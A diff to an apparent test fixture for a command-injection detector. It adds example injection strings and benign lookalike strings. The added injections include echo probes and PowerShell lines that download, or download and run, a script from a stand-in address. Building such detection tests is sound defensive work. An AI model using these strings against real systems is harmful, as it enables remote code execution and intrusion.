@@ -45,6 +45,10 @@ COMMAND_INJECTIONS = [
     ("198.18.0.3 & ipconfig /all", "a Windows tool with a switch"),
     ("abc'; sleep 12 #", "a quote closed, then a delay"),
     ("1;strace -f /tmp/x", "a program outside the lists, an option, after a breakout"),
+    ("|echo KQZT$((13+58))", "an echo with arithmetic expansion, to see the command ran"),
+    ("198.18.0.7;echo $((6*7))", "the same after an address"),
+    (";iwr http://198.18.0.9/s.ps1 -OutFile s.ps1", "PowerShell's download cmdlet"),
+    ("x' | powershell -c iex(irm http://198.18.0.9/a)", "PowerShell's download-and-run"),
 ]
 
 BENIGN_SHELL_LOOKALIKES = [
@@ -83,6 +87,8 @@ BENIGN_SHELL_LOOKALIKES = [
     "see (`whoami`) in the docs",
     "Paris; rome -based tours",
     "x = 1; y = -z;",
+    "AAPL; IEX quotes",  # a stock exchange, not PowerShell's alias
+    "total: $((3+4)) dollars",  # arithmetic without a command
 ]
 
 
